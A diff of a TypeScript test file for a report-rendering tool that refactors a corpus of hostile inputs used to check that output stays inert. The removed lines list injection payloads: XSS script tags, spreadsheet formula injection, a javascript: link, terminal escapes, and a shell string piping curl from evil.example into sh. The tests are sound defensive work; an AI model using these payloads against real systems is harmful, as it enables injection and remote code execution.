@@ -15,26 +15,9 @@ import { attributesOf, FOLLOWERS, OUTPUTS, type OutputId } from '../../tell/outp
 import type { Telling } from '../../tell/telling.ts';
 import { ACCOUNT, aLaunch, anActivity, anActor, NOW } from '../builders.ts';
 import { aFinding, assessed, evidence, link } from '../findings.ts';
-import { launchtrail, publicShare, record } from './desk.ts';
+import { launchtrail } from './desk.ts';
+import { CORPUS, hostileShare } from './hostile.ts';
 import { expectInertMermaid, expectInertSvg } from './inert.ts';
-
-/** What somebody might call a role, a key pair or a tag, by what would take it for something else. */
-const CORPUS = {
-  terminal: '\u001b[31mred\u001b[0m\u0007\u009b2J',
-  lines: 'a\r\nBcc: everyone@example.com\r\n\r\nb\u2028c\u2029d',
-  html: '<img src=x onerror=alert(1)><b onclick="alert(1)">',
-  script: '</script><script>alert(1)</script><!--',
-  slack: '<!channel> <https://evil.example/x|fix it> <@U012AB3CD> *bold* `code`',
-  teams: '[fix it](https://evil.example/x) **bold** @everyone <at>all</at>',
-  formula: "=cmd|' /C calc'!A0",
-  'formula of another script': '＝HYPERLINK("https://evil.example/x")',
-  directions: '\u202egnp.exe\u2066\u200f',
-  quotes: '"}],"severity_id":2,"x":"\\',
-  mermaid: '"]; click n0 "javascript:alert(1)"',
-  shell: "'; curl http://evil.example/x | sh #",
-  halves: '\ud800x\udfff',
-  megabyte: 'A<b>'.repeat(250_000),
-} as const;
 
 /** A finding of which every text that a record can bring along is the given one. */
 function findingOf(text: string): FindingRecord {
@@ -141,16 +124,7 @@ async function page(text: string): Promise<string> {
   const folder = mkdtempSync(join(tmpdir(), 'launchtrail-inert-'));
   try {
     const [input, output] = [join(folder, 'in.json'), join(folder, 'out.html')];
-    const share = record('abcdef1', {
-      ...publicShare('abcdef1'),
-      userAgent: text,
-      userIdentity: {
-        type: 'IAMUser',
-        accountId: ACCOUNT,
-        arn: `arn:aws:iam::${ACCOUNT}:user/${text}`,
-        userName: text,
-      },
-    });
+    const share = hostileShare('abcdef1', text);
     writeFileSync(input, JSON.stringify({ Records: [share] }));
     const { stderr } = await launchtrail(['report', input, '--output', output]);
     expect(stderr).toContain('1');
